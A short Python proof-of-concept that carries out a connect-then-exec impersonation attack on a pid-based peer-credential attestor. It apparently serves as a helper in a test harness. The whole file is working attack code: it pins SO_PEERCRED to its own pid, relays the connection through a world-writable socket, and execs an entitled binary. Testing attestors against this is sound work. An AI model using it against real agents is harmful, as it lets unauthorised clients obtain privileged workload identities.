"""The connect-then-exec attack on a peer-credential attestor.

This process connects to the agent (so SO_PEERCRED names *its* pid), waits
until the agent has surely accepted, forks a relay that keeps a copy of the
connection, prints its pid, then execs an entitled binary (argv[3], with the
connection still open in it). The relay passes bytes between the proxy socket
(argv[2]) and the agent, so a gRPC client on the proxy asks over a connection
whose peer pid now runs the entitled binary."""
import os
import socket
import sys
import time

import relay

agent_path, proxy_path, entitled = sys.argv[1], sys.argv[2], sys.argv[3]
upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
upstream.connect(agent_path)
upstream.set_inheritable(True)
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
listener.bind(proxy_path)
os.chmod(proxy_path, 0o777)
listener.listen(1)
time.sleep(0.5)

if os.fork() == 0:
    relay.serve(listener, upstream)
    os._exit(0)

print(os.getpid(), flush=True)
os.execv(entitled, [entitled, "60"])
